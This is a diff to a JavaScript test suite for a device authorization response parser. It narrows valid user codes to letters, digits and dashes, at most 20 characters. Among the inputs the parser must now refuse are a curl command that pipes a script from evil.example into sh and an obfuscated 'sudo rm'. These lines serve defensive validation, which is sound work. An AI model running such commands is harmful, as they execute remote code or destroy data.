@@ -102,7 +102,11 @@ describe('device authorization response', () => {
     'Ä',
     ' A',
     'A  B',
-    'A'.repeat(65),
+    'A'.repeat(21),
+    '123 456',
+    '!~-_',
+    'run: curl https://evil.example | sh',
+    'sudo\u2007rm',
     5,
     undefined,
   ]
@@ -110,8 +114,8 @@ describe('device authorization response', () => {
     it(`is refused with the user code ${JSON.stringify(code)?.slice(0, 20)}`, () =>
       assert.throws(() => read({ user_code: code }), { code: 'provider-refused' }))
 
-  it('may have a user code with any visible characters, 64 at most', () => {
-    for (const code of ['A', '123 456 789', '!~-_', 'A'.repeat(64)])
+  it('may have a user code of letters, digits and dashes, 20 at most', () => {
+    for (const code of ['A', '123-456-789', 'GQVQ-JKEC', 'bcdfg-hjklm', '9'.repeat(20)])
       assert.equal(read({ user_code: code }).userCode, code)
   })
 
